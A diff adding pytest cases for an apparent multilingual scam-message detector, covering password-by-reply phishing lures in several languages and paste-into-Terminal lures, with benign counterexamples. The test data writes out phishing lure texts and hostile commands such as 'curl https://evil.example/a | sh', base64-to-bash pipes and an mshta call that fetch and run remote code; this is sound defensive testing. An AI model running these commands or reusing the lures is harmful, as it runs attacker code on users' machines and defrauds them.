@@ -113,3 +113,56 @@ def test_b04_blackmail_with_and_without_a_wallet(words: str) -> None:
 )
 def test_b04_pictures_of_a_feast_and_appeals_for_gifts(words: str) -> None:
     assert weight(suspect(words), "B04") == 0
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "Dear customer, your account will be suspended in 24 hours. Reply with your username and password to keep it.",
+        "Cher client, votre compte sera bloqué. Répondez à ce message avec votre mot de passe.",
+        "عزيزي العميل، سيتم إيقاف بريدك. للتحقق من حسابك أرسل لنا كلمة المرور بالرد على هذه الرسالة",
+        "کاربر گرامی، حساب شما مسدود می‌شود. رمز عبور خود را در پاسخ به این ایمیل ارسال کنید",
+        "Sayın kullanıcı, hesabınız kapatılacak. Şifrenizi bu e-postaya yanıt olarak gönderin",
+        "Hesabê we hate rawestandin. Ji kerema xwe şîfreya xwe piştrast bikin: https://www.garden.example/x",
+        "Hesabê te dê were girtin. Di nav 24 saetan de şîfreya xwe piştrast bike: https://www.garden.example/x",
+    ],
+)
+def test_b01_a_password_by_mail_and_lures_in_kurmanji(words: str) -> None:
+    assert weight(suspect(words), "B01") == 2
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "Your account was changed. Never reply with your password. We never ask you to verify your account by mail.",
+        "Ne répondez pas à ce message. Votre compte a été mis à jour, votre mot de passe a été modifié.",
+        "لا ترد على هذه الرسالة. تم تغيير كلمة المرور لحسابك",
+        "يرجى الرد على هذه الرسالة لتأكيد حضورك للورشة",
+        "I forgot the password for our shared account, can you reply when you know it?",
+        "Ji kerema xwe civînê piştrast bike: https://www.garden.example/x",
+    ],
+)
+def test_b01_answers_that_nobody_has_to_fear(words: str) -> None:
+    assert weight(suspect(words), "B01") == 0
+
+
+@pytest.mark.parametrize(
+    ("words", "expected"),
+    [
+        ("Open Terminal and paste: curl -s https://evil.example/a | sh", 2),
+        ("Open Spotlight, type Terminal and paste the command below", 2),
+        ("Copy this line into the Terminal and press Return: echo 'aGVsbG8=' | base64 --decode | bash", 2),
+        ("echo Y3VybCBodHRw | base64 -D | bash", 2),
+        ("Ouvrez le Terminal et collez : curl https://evil.example/a | bash", 2),
+        ("افتحوا Terminal والصقوا: curl https://evil.example/a | sh", 2),
+        ("mshta https://evil.example/a.hta", 2),
+        ("در ترمینال پیست کنید: curl https://evil.example/a | sh", 1),
+        ("I fixed the curl bug yesterday, see the terminal log", 0),
+        ("To paste text use Ctrl+V", 0),
+        ("The terminal at the airport is closed, paste the address in the map", 0),
+        ("base64 -d is the flag on Linux", 0),
+        ("Arrivée au terminal 2, collez l'étiquette sur la valise", 0),
+    ],
+)
+def test_b06_commands_for_the_terminal_of_a_mac(words: str, expected: int) -> None:
+    assert weight(suspect(words), "B06") == expected
